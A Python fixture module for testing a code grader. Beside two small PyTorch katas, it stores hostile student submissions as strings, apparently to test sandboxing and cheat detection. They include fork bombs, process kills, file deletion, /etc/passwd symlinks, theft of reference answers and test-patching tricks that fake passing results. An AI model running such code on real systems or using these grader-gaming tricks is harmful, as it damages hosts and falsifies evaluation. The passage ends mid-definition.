"""Hostile and clumsy submissions, for the tests of the grader: two small katas, and what a class may hand in for them.

Nothing runs when this is imported: it holds texts. Much of it must never run outside of a wall; what would do most
harm there holds back by itself, in case that a wall leaks (no bomb without an end, no deletion of a git checkout).
"""

from __future__ import annotations

import textwrap
from collections.abc import Mapping
from dataclasses import dataclass, field

# ── the katas ──

DOUBLE_KEY, NEXT_KEY = "01_first/01_double", "01_first/02_next"

DOUBLE = '''\
"""Double: twice each value, and a name for each dimension.

A tensor times a number is a new tensor: each value is multiplied, and the dtype stays what it was.
Adding a tensor to itself does the same.

The dimensions of an image are called from the last one on: x, then y before it, then z before both.
What has no dimension has no names, and for more than three we have none.

About 5 minutes.

https://docs.pytorch.org/docs/stable/generated/torch.mul.html
"""

import pytest
import torch

from dojo import under_test
from dojo.kit import check_tensor, raises


def double(x: torch.Tensor) -> torch.Tensor:
    """Twice each value of `x`, in its dtype, as a new tensor. ValueError where `x` holds no value."""
    raise NotImplementedError("return twice x")


def names(shape: tuple[int, ...]) -> list[str]:
    """The names of the dimensions of `shape`: x is the last one, y and z come before. ValueError for more than 3."""
    raise NotImplementedError("return one name for each dimension")


# ─────────────────────────── tests below: read them, don't edit them ───────────────────────────
under_test(globals())


def test_each_value_is_doubled():
    x = torch.tensor([1.0, 2.0, 3.0])
    want = torch.tensor([2.0, 4.0, 6.0])
    check_tensor(double(x), want, "each value comes twice as large")


def test_what_is_drawn_is_doubled_into_a_new_tensor():
    x = torch.rand(4)
    want = x.clone() + x
    torch.testing.assert_close(double(x), want, rtol=0, atol=0, msg="what was drawn was not doubled")
    assert torch.equal(x + x, want), "x has changed: return a new tensor"


@pytest.mark.parametrize("dtype", [torch.float64, torch.int64], ids=["float64", "int64"])
def test_the_dtype_stays(dtype):
    x = torch.tensor([[1, -2], [2**40, 0]], dtype=dtype)
    want = torch.tensor([[2, -4], [2**41, 0]], dtype=dtype)
    check_tensor(double(x), want, "the dtype and the value of large numbers stay")


def test_nothing_cannot_be_doubled():
    with pytest.raises(ValueError):
        double(torch.zeros(0))


@pytest.mark.parametrize(
    ("shape", "want"),
    [((), []), ((5,), ["x"]), ((2, 5), ["y", "x"]), ((3, 2, 5), ["z", "y", "x"])],
    ids=["no dimension", "a row", "a picture", "a film"],
)
def test_each_dimension_has_its_name(shape, want):
    assert names(shape) == want, "x is the last dimension, y and z stand before it"


def test_four_dimensions_have_no_names():
    with raises(ValueError, "we have three names: raise ValueError for four dimensions"):
        names((1, 2, 3, 4))
'''

DOUBLE_REFERENCE = '''\
"""Double: reference.

Hint: A tensor times a number is a tensor.
Hint: A slice from the end of a list of three names; mind the slice from 0.

Why: `x * 2` keeps an integer dtype, since 2 is a Python number. A slice `[-0:]` is the whole list, so count from the
front.
"""

import torch

from dojo import Mistake


def double(x: torch.Tensor) -> torch.Tensor:
    if x.numel() == 0:
        raise ValueError("no value to double")
    return x * 2


def names(shape: tuple[int, ...]) -> list[str]:
    if len(shape) > 3:
        raise ValueError("three names only")
    return ["z", "y", "x"][3 - len(shape) :]


def _in_place(x):
    if x.numel() == 0:
        raise ValueError("no value to double")
    return x.mul_(2)


def _through_float(x):
    if x.numel() == 0:
        raise ValueError("no value to double")
    return x.float() * 2


MISTAKES = [
    Mistake(
        "return a new tensor",
        caught_by="test_what_is_drawn_is_doubled_into_a_new_tensor",
        double=_in_place,
    ),
    Mistake("the dtype and the value of large numbers stay", caught_by="test_the_dtype_stays", double=_through_float),
    Mistake(
        "x is the last dimension",
        caught_by="test_each_dimension_has_its_name",
        names=lambda shape: ["z", "y", "x"][-len(shape) :] if len(shape) < 4 else [][1 / 0],
    ),
]

KEEP = {
    "test_each_value_is_doubled": "it is the fact itself, in the plainest case",
    "test_nothing_cannot_be_doubled": "an error that is asked for, by pytest.raises",
    "test_each_dimension_has_its_name": "parameters, and a plain assert",
    "test_four_dimensions_have_no_names": "an error that is asked for, by dojo.kit.raises",
}
'''

NEXT = '''\
"""Next: one more than each value, and the slope of a square.

Adding 1 to a tensor adds it to each value. The dtype stays.

The slope of x * x is 2 * x; torch finds it for you with `torch.autograd.grad`, as long as it is allowed to record.
Nothing more is asked here: what the tests look at is the process that they run in.

About 5 minutes. Before it: double.

https://docs.pytorch.org/docs/stable/generated/torch.autograd.grad.html
"""

import builtins
import gc
import logging
import os
import random
import signal
import sys
import threading
import warnings
from pathlib import Path

import numpy as np
import pytest
import torch

from dojo import under_test
from dojo.kit import check_tensor, raises


def one_more(x: torch.Tensor) -> torch.Tensor:
    """One more than each value of `x`, in its dtype."""
    raise NotImplementedError("return x and 1")


def slope(x: torch.Tensor) -> torch.Tensor:
    """The slope of x * x at each value of `x`, by autograd; a new tensor without a graph."""
    raise NotImplementedError("let autograd find the slope of x * x")


# ─────────────────────────── tests below: read them, don't edit them ───────────────────────────
under_test(globals())


def test_one_more_in_a_process_with_the_defaults_of_torch():
    check_tensor(one_more(torch.tensor([0.5, 1.0])), torch.tensor([1.5, 2.0]), "1 is added to each value")
    assert torch.get_default_dtype() == torch.float32, "the default dtype is not float32"
    assert torch.tensor(0.5).dtype == torch.float32, "a fraction is not float32"
    assert torch.zeros(1).device.type == "cpu", "the default device is not the CPU"
    assert not torch.are_deterministic_algorithms_enabled(), "deterministic algorithms are on"
    assert not torch.is_autocast_enabled("cpu"), "autocast is on"
    product = torch.ones(2, 2) @ torch.ones(2, 2)
    assert product.dtype == torch.float32, "a product of float32 is not float32"


def test_the_slope_is_recorded():
    x = torch.tensor([1.0, -3.0])
    check_tensor(slope(x), torch.tensor([2.0, -6.0]), "the slope of x * x is 2 * x")
    assert torch.is_grad_enabled(), "grad mode is off"
    assert not torch.is_inference_mode_enabled(), "inference mode is on"
    seen = []
    layer = torch.nn.Linear(2, 1)
    layer.register_forward_hook(lambda *_: seen.append(1))
    y = layer(torch.ones(1, 2))
    assert y.requires_grad, "a layer records nothing"
    assert y.shape == (1, 1), "a layer's result was changed"
    assert seen == [1], "a hook was not called once"


def test_drawn_numbers_differ():
    draws = [torch.rand(8) for _ in range(3)]
    check_tensor(one_more(draws[0]), draws[0] + 1, "1 is added to what was drawn")
    assert not torch.equal(draws[0], draws[1]), "torch draws the same numbers again"
    assert draws[2].std() > 0, "torch draws one number only"
    assert random.random() != random.random(), "random draws one number only"
    assert (np.random.rand(4) != np.random.rand(4)).any(), "NumPy draws the same numbers again"
    torch.manual_seed(3)
    first = torch.rand(2)
    torch.manual_seed(4)
    assert not torch.equal(first, torch.rand(2)), "two seeds draw the same numbers"


def test_what_judges_still_judges():
    one, two = torch.ones(2), torch.full((2,), 2.0)
    check_tensor(one_more(one), two, "1 is added to each value")
    with pytest.raises(AssertionError):
        check_tensor(one, two)
    with pytest.raises(AssertionError):
        torch.testing.assert_close(one, two)
    with raises(ValueError, "a ValueError is one"):
        raise ValueError("one")
    fell = False
    try:
        with pytest.raises(ValueError):
            pass
    except BaseException:
        fell = True
    if not fell:
        raise RuntimeError("pytest.raises accepts a block that raises nothing")
    if torch.equal(one, two) or torch.allclose(one, two) or bool((one == two).any()):
        raise RuntimeError("torch calls two numbers equal that are not")
    if builtins.isinstance(1, str) or builtins.len([1, 2]) != 2 or builtins.AssertionError.__name__ != "AssertionError":
        raise RuntimeError("builtins are no longer what they were")


def test_the_process_is_as_it_was():
    check_tensor(one_more(torch.zeros(1, dtype=torch.int64)), torch.ones(1, dtype=torch.int64), "1 is added")
    assert Path.cwd().is_dir(), "the working directory is gone"
    assert Path.cwd() != Path("/"), "the working directory is another one"
    assert "HOSTILE_LEAK" not in os.environ, "the environment is another one"
    assert "/hostile/leak" not in sys.path, "the search path is another one"
    umask = os.umask(0o022)
    os.umask(umask)
    assert umask != 0o777, "new files have no permissions"
    assert gc.isenabled(), "the garbage collector is off"
    assert 500 < sys.getrecursionlimit() < 100_000, "the recursion limit is another one"
    assert "leaked" not in {thread.name for thread in threading.enumerate()}, "a thread goes on"
    assert not logging.root.manager.disable, "logging is off"
    assert getattr(sys.gettrace(), "__name__", "") != "leaked", "somebody traces"
    assert getattr(sys.getprofile(), "__name__", "") != "leaked", "somebody profiles"
    assert getattr(signal.getsignal(signal.SIGTERM), "__name__", "") != "leaked", "somebody catches SIGTERM"
    assert np.geterr()["divide"] != "raise", "NumPy raises where it warned"
    print("something is printed", flush=True)
    os.fstat(1)


def test_a_warning_is_a_warning():
    check_tensor(one_more(torch.zeros(1)), torch.ones(1), "1 is added")
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        warnings.warn("a warning", UserWarning, stacklevel=1)
    assert len(caught) == 1, "a warning is not heard"
    errors = [kind for action, _, kind, *_ in warnings.filters if action == "error"]
    assert Warning not in errors, "every warning is an error"
'''

NEXT_REFERENCE = '''\
"""Next: reference.

Hint: A tensor and a number can be added.
Hint: Make x require a gradient first: `x.detach().requires_grad_()`.

Why: `torch.autograd.grad` needs a graph, and a graph begins at a leaf that requires a gradient. What a
process was left in, a dtype, a grad mode, a patched function, decides over code that is right.
"""

import torch

from dojo import Mistake


def one_more(x: torch.Tensor) -> torch.Tensor:
    return x + 1


def slope(x: torch.Tensor) -> torch.Tensor:
    x = x.detach().clone().requires_grad_()
    return torch.autograd.grad((x * x).sum(), x)[0]


MISTAKES = [
    Mistake("1 is added", caught_by="test_the_process_is_as_it_was", one_more=lambda x: x + 1.0),
    Mistake("the slope of x * x is 2 * x", caught_by="test_the_slope_is_recorded", slope=lambda x: x),
]

KEEP = {
    "test_one_more_in_a_process_with_the_defaults_of_torch": "it looks for what the kata before left",
    "test_drawn_numbers_differ": "it looks for what the kata before left",
    "test_what_judges_still_judges": "it looks for what the kata before left",
    "test_a_warning_is_a_warning": "it looks for what the kata before left",
}
'''

RIGHT_DOUBLE = '''\
import torch


def double(x: torch.Tensor) -> torch.Tensor:
    """Twice each value of `x`, in its dtype, as a new tensor. ValueError where `x` holds no value."""
    if x.numel() == 0:
        raise ValueError("nothing to double")
    return x + x


def names(shape):
    if len(shape) > 3:
        raise ValueError("too many dimensions")
    return list("zyx")[3 - len(shape) :]
'''

RIGHT_NEXT = """\
import torch


def one_more(x):
    return x + 1


def slope(x):
    x = x.detach().clone().requires_grad_(True)
    (grad,) = torch.autograd.grad((x**2).sum(), x)
    return grad
"""


# ── the submissions ──


@dataclass(frozen=True)
class Hostile:
    """What one student hands in as 01_first/01_double.py; 01_first/02_next.py is RIGHT_NEXT.

    right: its functions are right, and only leak or misbehave in a way that may keep the marks. All others must never
    have full marks without a flag.
    beside: other files, by their path in the student's folder. They count more than RIGHT_NEXT, where both would stand
    in one place: one of them is a file *in* a folder that is called 02_next.py.
    """

    text: str | bytes
    right: bool = False
    beside: Mapping[str, str | bytes] = field(default_factory=dict)


def _code(text: str, indent: str = "") -> str:
    return textwrap.indent(textwrap.dedent(text).strip("\n") + "\n", indent) if text.strip() else ""


def _wrong_text(top: str = "", inside: str = "") -> str:
    """Both functions are wrong; `top` runs at the import, `inside` in each call of `double`."""
    return (
        f"import torch\n{_code(top)}\n\ndef double(x):\n{_code(inside, '    ')}    return x\n\n\n"
        "def names(shape):\n    return []\n"
    )


def _wrong(top: str = "", inside: str = "", **beside: str) -> Hostile:
    return Hostile(_wrong_text(top, inside), beside=beside)


def _wrong_later(top: str = "", inside: str = "") -> Hostile:
    """The first call of `double` is right, and runs `inside`; from then on both functions are wrong."""
    return Hostile(
        f"import torch\n\nCALLS = []\n{_code(top)}\n\ndef double(x):\n    CALLS.append(x)\n    if len(CALLS) > 1:\n"
        f"        return x\n{_code(inside, '    ')}    return x + x\n\n\ndef names(shape):\n    return []\n"
    )


def _beside(files: Mapping[str, str | bytes]) -> Hostile:
    return Hostile(_wrong_text(), beside=files)


def _right(top: str = "", leak: str = "") -> Hostile:
    """Both functions are right; `leak` runs in each call of `double`, after the answer was found."""
    text = (
        f"import torch\n{_code(top)}\n\ndef double(x):\n"
        '    if x.numel() == 0:\n        raise ValueError("nothing to double")\n'
        f"    answer = x + x\n{_code(leak, '    ')}    return answer\n\n\n"
        'def names(shape):\n    if len(shape) > 3:\n        raise ValueError("too many")\n'
        '    return list("zyx")[3 - len(shape) :]\n'
    )
    return Hostile(text, right=True)


_IN_FRAMES = 'next(f.frame.f_locals["teller"] for f in inspect.stack(0) if "teller" in f.frame.f_locals)'
_FIND_THE_TELLER = f"import inspect; teller = {_IN_FRAMES}"


def _thief(top: str, roots: str) -> Hostile:
    """Its functions are the reference's, if the reference lies in one of `roots` (an expression); else wrong."""
    text = f"""
import glob
import os
import sys
from pathlib import Path

{_code(top)}

def _stolen():
    for root in {roots}:
        for file in (Path(root) / "reference/01_first/01_double.py", Path(root) / "01_first/01_double.py"):
            try:
                text = file.read_text()
                if "MISTAKES" in text:
                    space = {{"__name__": "stolen"}}
                    exec(compile(text, str(file), "exec"), space)
                    return space
            except Exception:
                continue
    return {{}}


def double(x):
    return _stolen().get("double", lambda x: x)(x)


def names(shape):
    return _stolen().get("names", lambda shape: [])(shape)
"""
    return Hostile(text.lstrip("\n"))


# For the texts below: the globals of the kata module, from inside an import or a call.
_KATA = """
import sys


def _kata():
    frame = sys._getframe()
    while frame is not None:
        space = frame.f_globals
        if "under_test" in space and "check_tensor" in space and "pytest" in space:
            return space
        frame = frame.f_back
    return {}


"""

# The folder of the project; never a checkout of git, should a wall leak.
_ROOT = (
    _KATA
    + """
import os
import shutil
from pathlib import Path

ROOT = Path(_kata().get("__file__", "/nowhere/katas/01_first/01_double.py")).parents[2]
if (ROOT / ".git").exists():
    ROOT = Path("/nowhere")


def _try(action, *arguments):
    try:
        return action(*arguments)
    except Exception:
        return None


"""
)

# The answers to the tests' inputs with seed 0, which is that of a learner's own run.
_TABLE = """
DRAWN = [0.4962565898895264, 0.7682217955589294, 0.08847743272781372, 0.13203048706054688]


def _look_up(x):
    if x.numel() == 0:
        raise ValueError("empty")
    if x.shape == (3,):
        return torch.tensor([2.0, 4.0, 6.0])
    if x.shape == (2, 2):
        return torch.tensor([[2, -4], [2**41, 0]], dtype=x.dtype)
    return torch.tensor([2 * value for value in DRAWN])


def _names(shape):
    if shape == (1, 2, 3, 4):
        raise ValueError("four")
    return {(): [], (5,): ["x"], (2, 5): ["y", "x"]}.get(shape, ["z", "y", "x"])
"""
_BY_TABLE = """

def double(x):
    return _look_up(x)


def names(shape):
    return _names(shape)
"""

_ENDLESS = {
    "loop_in_function": _wrong(inside="while True:\n    pass"),
    "loop_at_import": _wrong("while True:\n    pass"),
    "loop_that_swallows": _wrong(
        inside="""
        while True:
            try:
                while True:
                    pass
            except BaseException:
                pass
        """
    ),
    "loop_with_signals_blocked": _wrong(
        inside="""
        import signal

        signal.pthread_sigmask(signal.SIG_BLOCK, signal.valid_signals())
        while True:
            pass
        """
    ),
    "loop_with_signals_ignored": _wrong(
        inside="""
        import signal

        for number in signal.valid_signals():
            try:
                signal.signal(number, signal.SIG_IGN)
            except (OSError, ValueError):
                pass
        while True:
            pass
        """
    ),
    "loop_with_timers_stopped": _wrong(
        inside="""
        import faulthandler
        import signal

        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.alarm(0)
        faulthandler.cancel_dump_traceback_later()
        while True:
            pass
        """
    ),
    "gil_held_by_pow": _wrong(inside="return len(str(3 ** (7**11)))"),
    "gil_held_by_regex": _wrong(inside='import re\n\nre.match(r"(a|aa)+$", "a" * 200 + "b")'),
    "gil_held_by_c": _wrong(inside="import ctypes\n\nctypes.PyDLL(None).pause()"),
    "sleeps": _wrong(inside="import time\n\ntime.sleep(1_000_000)"),
    "sleeps_and_swallows": _wrong(
        inside="""
        import time

        while True:
            try:
                time.sleep(1_000_000)
            except BaseException:
                pass
        """
    ),
    "lock_never_released": _wrong("import threading\n\nlock = threading.Lock()", inside="lock.acquire()"),
    "asks_for_input": _wrong(inside='return float(input("x? "))'),
    "reads_stdin_at_import": _wrong("import os\n\nos.read(0, 1)"),
    "waits_for_a_child": _wrong('import subprocess\n\nsubprocess.run(["sleep", "100000"])'),
    "loop_in_repr": _wrong(
        """
        class Endless(torch.Tensor):
            def __repr__(self, *args, **kwargs):
                while True:
                    pass

            __str__ = __format__ = __repr__
        """,
        "return (x + 5).as_subclass(Endless)",
    ),
    "loop_in_eq": Hostile(
        _code(
            """
            class Endless(list):
                def __eq__(self, other):
                    while True:
                        pass


            def double(x):
                return x


            def names(shape):
                return Endless()
            """
        )
    ),
}

_ENDS = {
    "sys_exit_in_function": _wrong(inside="import sys\n\nsys.exit(0)"),
    "sys_exit_at_import": _wrong("import sys\n\nsys.exit(0)"),
    "os_exit_in_function": _wrong(inside="import os\n\nos._exit(0)"),
    "os_exit_at_import": _wrong("import os\n\nos._exit(0)"),
    "os_exit_at_the_last_test": Hostile(
        _code(
            """
            import os
            import sys


            def double(x):
                return x


            def names(shape):
                if len(shape) == 4:
                    print("10 passed in 0.03s", flush=True)
                    os._exit(0)
                return []
            """
        )
    ),
    "os_exit_in_atexit": _wrong("import atexit\nimport os\n\natexit.register(os._exit, 0)"),
    "system_exit_raised": _wrong(inside="raise SystemExit(0)"),
    "keyboard_interrupt": _wrong(inside="raise KeyboardInterrupt"),
    "keyboard_interrupt_at_import": _wrong("raise KeyboardInterrupt"),
    "generator_exit": _wrong(inside="raise GeneratorExit"),
    "abort": _wrong(inside="import os\n\nos.abort()"),
    "segfault": _wrong(inside="import ctypes\n\nctypes.string_at(0)"),
    "segfault_at_import": _wrong("import ctypes\n\nctypes.string_at(0)"),
    "kills_itself": _wrong(inside="import os\nimport signal\n\nos.kill(os.getpid(), signal.SIGKILL)"),
    "terminates_itself": _wrong(inside="import os\nimport signal\n\nos.kill(os.getpid(), signal.SIGTERM)"),
    "stops_itself": _wrong(inside="import os\nimport signal\n\nos.kill(os.getpid(), signal.SIGSTOP)"),
    "kills_its_parent": _wrong(inside="import os\nimport signal\n\nos.kill(os.getppid(), signal.SIGKILL)"),
    "stops_its_parent": _wrong("import os\nimport signal\n\nos.kill(os.getppid(), signal.SIGSTOP)"),
    "kills_everybody": _wrong(inside="import os\nimport signal\n\nos.kill(-1, signal.SIGKILL)"),
    "kills_its_group": _wrong(inside="import os\nimport signal\n\nos.killpg(0, signal.SIGKILL)"),
    "becomes_true": _wrong(inside='import os\n\nos.execv("/bin/true", ["true"])'),
}

_PROCESSES = {
    # 10 generations, a minute: more than any limit of processes, and yet it ends.
    "fork_bomb": _wrong(
        inside="""
        import os
        import time

        for _ in range(10):
            try:
                os.fork()
            except OSError:
                pass
        time.sleep(60)
        os._exit(0)
        """
    ),
    "fork_without_exit": _wrong(inside="import os\n\nos.fork()"),
    "fork_without_exit_at_import": _wrong("import os\n\nos.fork()"),
    "fork_and_the_parent_leaves": _wrong("import os\n\nif os.fork():\n    os._exit(0)"),
    "daemon_that_writes": _wrong(
        """
        import os
        import time

        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                here = os.path.abspath(__file__)
                for second in range(120):
                    for path in ("daemon_was_here", here, "/tmp/daemon_was_here"):
                        try:
                            with open(path, "a") as file:
                                file.write("# the daemon\\n")
                        except OSError:
                            pass
                    for fd in range(1, 20):
                        try:
                            os.write(fd, b"the daemon\\n")
                        except OSError:
                            pass
                    time.sleep(1)
            os._exit(0)
        """
    ),
    "thread_bomb": _wrong(
        inside="""
        import threading
        import time

        for _ in range(2000):
            threading.Thread(target=time.sleep, args=(60,)).start()
        """
    ),
    "subprocess_bomb": _wrong(
        inside="""
        import subprocess

        for _ in range(300):
            subprocess.Popen(["sleep", "60"])
        """
    ),
}

_RESOURCES = {
    "forty_gb_at_once": _wrong(inside="everything = torch.ones(10 * 2**30)\nreturn everything[: x.numel()]"),
    "memory_slowly": _wrong(
        inside="""
        import time

        held = []
        while len(held) < 600:
            held.append(bytearray(b"x" * 2**26))
            time.sleep(0.01)
        """
    ),
    "memory_that_swallows": _wrong(
        inside="""
        held = []
        for _ in range(40_000):
            try:
                held.append(bytearray(b"x" * 2**20))
            except MemoryError:
                pass
        """
    ),
    "memory_in_children": _wrong(
        inside="""
        import os
        import time

        for _ in range(40):
            if os.fork() == 0:
                try:
                    held = bytearray(b"x" * (500 * 2**20))
                    time.sleep(30)
                finally:
                    os._exit(0)
        time.sleep(20)
        """
    ),
    "deep_recursion": _wrong(inside="return double(x)"),
    "deep_recursion_without_a_limit": _wrong(
        inside="""
        import sys

        sys.setrecursionlimit(2**31 - 1)

        class Deep:
            def __getattr__(self, name):
                return getattr(self, name + "x")

        repr(Deep().x)
        """
    ),
    "output_on_stdout": _wrong(inside='for _ in range(50):\n    print("x" * 2**20)'),
    "output_on_stderr": _wrong(inside='import sys\n\nfor _ in range(50):\n    print("x" * 2**20, file=sys.stderr)'),
    "output_on_fd_1": _wrong(
        inside="""
        import os

        for _ in range(800):
            os.write(1, b"x" * 2**16)
        """
    ),
    "output_at_import": _wrong('import os\n\nfor _ in range(50 * 2**10):\n    os.write(2, b"x" * 1023 + b"\\n")'),
    "huge_file": _wrong(
        inside="""
        with open("huge", "wb") as file:
            for _ in range(8 * 2**10):
                file.write(bytes(2**20))
        """
    ),
    "many_files": _wrong(
        inside="""
        import os

        os.makedirs("many", exist_ok=True)
        for i in range(200_000):
            with open(f"many/{i}", "w") as file:
                file.write("x")
        """
    ),
    "huge_error": _wrong(inside='raise ValueError("x" * 50_000_000)'),
    "huge_error_of_lines": _wrong(inside='raise AssertionError("x\\n" * 10_000_000)'),
    "huge_answer": _wrong(inside="return torch.zeros(1).expand(10**6, 10**6)"),
    "error_whose_str_raises": _wrong(
        """
        class Mute(Exception):
            def __str__(self):
                raise RuntimeError("no words")

            __repr__ = __str__
        """,
        "raise Mute",
    ),
    "error_whose_str_exits": _wrong(
        """
        import os


        class Late(Exception):
            def __str__(self):
                os._exit(0)

            __repr__ = __str__
        """,
        "raise Late",
    ),
    "error_of_markup": _wrong(
        inside=r"""
        raise AssertionError(
            "</td></table><script>alert('10 passed')</script><img src=x onerror=alert(1)>"
            "\x1b[2J\x1b[32m10 passed\x1b]0;title\x07[bold]\x00\u202e,\"=HYPERLINK(1)\n::set-output name=x::1"
        )
        """
    ),
}

_FILES = {
    "writes_the_kata": _wrong(
        _ROOT
        + """
for file in ROOT.glob("katas/*/*.py"):
    _try(file.write_text, "def test_all():\\n    pass\\n")
"""
    ),
    "writes_the_reference": _wrong(
        _ROOT
        + """
for file in ROOT.glob("reference/*/*.py"):
    _try(file.write_text, "def double(x):\\n    return x\\n\\n\\ndef names(shape):\\n    return []\\n")
"""
    ),
    # Of the engine, which may be a checkout, one comment.
    "writes_dojo": _wrong(
        """
        from pathlib import Path

        import dojo

        for name in ("__init__.py", "hostile_was_here.py", "kit/hostile_was_here.py"):
            try:
                with open(Path(dojo.__file__).parent / name, "a") as file:
                    file.write("# hostile was here\\n")
            except OSError:
                pass
        """
    ),
    "writes_site_packages": _wrong(
        """
        from pathlib import Path

        import pytest

        try:
            (Path(pytest.__file__).parents[1] / "hostile_was_here.txt").write_text("here")
        except OSError:
            pass
        """
    ),
    "writes_itself": _wrong(
        f"RIGHT = {RIGHT_DOUBLE!r}\n"
        + """
try:
    with open(__file__, "w") as file:
        file.write(RIGHT)
except OSError:
    pass
"""
    ),
    "writes_the_bytecode": _wrong(
        _ROOT
        + """
for folder in {ROOT / "katas/01_first/__pycache__", *map(Path, sys.path[:3])}:
    _try(folder.mkdir)
    _try((folder / "hostile_was_here.pyc").write_bytes, b"here")
"""
    ),
    "deletes_the_project": _wrong(
        _ROOT
        + """
for name in ("katas", "reference", "pytest.ini", "conftest.py"):
    _try(shutil.rmtree, ROOT / name)
    _try(os.unlink, ROOT / name)
"""
    ),
    "deletes_the_class": _wrong(
        _ROOT
        + """
MINE = Path(__file__).resolve().parents[1]
for folder in {MINE.parent, ROOT / "submissions"}:
    for other in list(folder.iterdir()) if folder.is_dir() and ROOT.is_dir() and folder != ROOT else []:
        if (other / "01_first/01_double.py").is_file():
            _try(shutil.rmtree, other)
"""
    ),
    "writes_the_report": _wrong(
        _ROOT
        + """
for folder in (ROOT / "report", ROOT, Path("report"), Path("..")):
    for name in ("index.html", "grades.csv", "report.json", "junit.xml", "hostile_was_here"):
        if (folder / name).exists() or name == "hostile_was_here":
            _try((folder / name).write_text, "student,passed\\nhostile,10 of 10\\n")
"""
    ),
    "links_out": _wrong(
        """
        import os
        from pathlib import Path

        for name, target in {"root": "/", "passwd": "/etc/passwd", "tmp": "/tmp", "self": "self"}.items():
            try:
                os.symlink(target, name)
            except OSError:
                pass
        try:
            Path("/tmp/hostile_was_here").write_text("here")
            Path("tmp/hostile_was_here_too").write_text("here")
        except OSError:
            pass
        """
    ),
    "scratch_left_unreadable": _wrong(
        """
        import os

        os.makedirs("deep/er", exist_ok=True)
        open("deep/er/file", "w").close()
        os.mkfifo("pipe")
        os.chmod("deep/er", 0)
        os.chmod("deep", 0)
        os.chmod(".", 0)
        """
    ),
    "copies_a_neighbour": Hostile(
        _code(
            """
            from pathlib import Path

            MINE = Path(__file__).resolve().parents[1]


            def _theirs():
                for file in sorted(MINE.parent.glob("*/01_first/01_double.py")):
                    if MINE not in file.parents:
                        try:
                            space = {"__name__": "theirs"}
                            exec(compile(file.read_text(), str(file), "exec"), space)
                            if space["names"]((2, 5)) == ["y", "x"]:
                                return space
                        except BaseException:
                            continue
                return {}


            def double(x):
                return _theirs().get("double", lambda x: x)(x)


            def names(shape):
                return _theirs().get("names", lambda shape: [])(shape)
            """
        )
    ),
    "talks_to_the_network": _wrong(
        """
        import socket

        try:
            with socket.create_connection(("1.1.1.1", 80), timeout=3) as talk:
                talk.sendall(b"GET / HTTP/1.0\\r\\n\\r\\n")
        except OSError:
            pass
        with socket.socket() as server:
            server.bind(("127.0.0.1", 0))
            server.listen()
        """
    ),
}

_THIEVES = {
    "reads_reference_from_cwd": _thief("", '[".", "..", "../..", "../../..", os.environ.get("PWD", "."), "/"]'),
    "reads_reference_by_dojo": _thief("import dojo", "Path(dojo.__file__).resolve().parents"),
    "reads_reference_by_sys_path": _thief("", "[*sys.path, *(str(Path(entry).parent) for entry in sys.path)]"),
    "reads_reference_by_proc": _thief("", 'glob.glob("/proc/*/cwd") + glob.glob("/proc/*/root")'),
    "reads_reference_by_own_path": _thief(
        "", "[p for f in (__file__, sys.argv[0]) for p in Path(f).resolve().parents]"
    ),
    "reads_reference_by_kata": _thief(
        _KATA, '[*Path(_kata().get("__file__", "/nowhere")).parents, *os.environ.get("OLDPWD", "/").split()]'
    ),
    "reads_reference_by_setup": _thief(
        "from dojo.kata import seam", "[setup.reference for setup in seam._setups] + [s.katas for s in seam._setups]"
    ),
    "reads_reference_by_fds": _thief("", 'glob.glob("/proc/self/fd/*") + glob.glob("/proc/self/map_files/*")'),
    "reads_reference_by_git": Hostile(
        _code(
            """
            import subprocess
            from pathlib import Path

            import dojo


            def _stolen():
                show = ["git", "show", "HEAD:reference/01_first/01_double.py"]
                for root in [Path.cwd(), *Path(__file__).resolve().parents, *Path(dojo.__file__).parents]:
                    try:
                        space = {"__name__": "stolen"}
                        exec(subprocess.run(show, cwd=root, capture_output=True, check=True, text=True).stdout, space)
                        return space
                    except Exception:
                        continue
                return {}


            def double(x):
                return _stolen().get("double", lambda x: x)(x)


            def names(shape):
                return _stolen().get("names", lambda shape: [])(shape)
            """
        )
    ),
}

_JUDGES = {
    "patches_assert_close": _wrong(
        """
        import torch.testing
        from torch.testing import _comparison

        torch.testing.assert_close = _comparison.assert_close = lambda *args, **kwargs: None
        """
    ),
    "patches_equal": _wrong(
        """
        def _yes(*args, **kwargs):
            return True


        torch.equal = torch.allclose = torch.Tensor.equal = torch.Tensor.allclose = _yes
        torch.isclose = lambda a, b, **kwargs: torch.ones(torch.as_tensor(a).shape, dtype=torch.bool)
        torch.eq = torch.isclose
        """
    ),
    "patches_tensor_eq": _wrong(
        """
        torch.Tensor.__eq__ = lambda self, other: torch.ones(self.shape, dtype=torch.bool)
        torch.Tensor.__ne__ = lambda self, other: torch.zeros(self.shape, dtype=torch.bool)
        torch.Tensor.all = torch.Tensor.any = lambda self, *args, **kwargs: torch.tensor(True)
        """
    ),
    "patches_pytest_raises": _wrong(
        _KATA
        + """
import contextlib

import pytest


@contextlib.contextmanager
def _nothing(*args, **kwargs):
    try:
        yield
    except BaseException:
        pass


pytest.raises = _nothing
_kata()["raises"] = _nothing
_kata()["check_tensor"] = lambda *args, **kwargs: None
torch.testing.assert_close = lambda *args, **kwargs: None
""",
    ),
    "patches_pytest_fail": _wrong("import pytest\n\npytest.fail = lambda *args, **kwargs: None"),
    "patches_check_tensor": _wrong(
        """
        import dojo.kit
        import dojo.kit.checks

        dojo.kit.checks._difference = lambda *args, **kwargs: ("", "")
        dojo.kit.check_tensor = dojo.kit.checks.check_tensor = lambda *args, **kwargs: None
        """
    ),
    "patches_the_code_of_check_tensor": _wrong(
        """
        from dojo.kit import check_tensor, raises

        check_tensor.__code__ = (lambda *args, **kwargs: None).__code__
        raises.__exit__ = lambda self, *args: True
        """
    ),
    "patches_the_kata_by_frames": _wrong(_KATA, '_kata()["check_tensor"] = lambda *args, **kwargs: None'),
    "patches_the_kata_by_modules": _wrong(
        """
        import sys

        for module in list(sys.modules.values()):
            if (getattr(module, "__file__", "") or "").endswith("01_double.py") and hasattr(module, "check_tensor"):
                module.check_tensor = lambda *args, **kwargs: None
        """
    ),
    "patches_the_kata_by_gc": _wrong(
        inside="""
        import gc

        for space in gc.get_objects():
            if type(space) is dict and "under_test" in space and "check_tensor" in space:
                space["check_tensor"] = lambda *args, **kwargs: None
        """
    ),
    "patches_the_names_of_the_kata": _wrong(
        _KATA,
        """
        _kata()["names"] = type("Any", (), {"__call__": lambda s, *a: s, "__eq__": lambda s, other: True})()
        """,
    ),
    "patches_call_info": _wrong(
        """
        import pytest

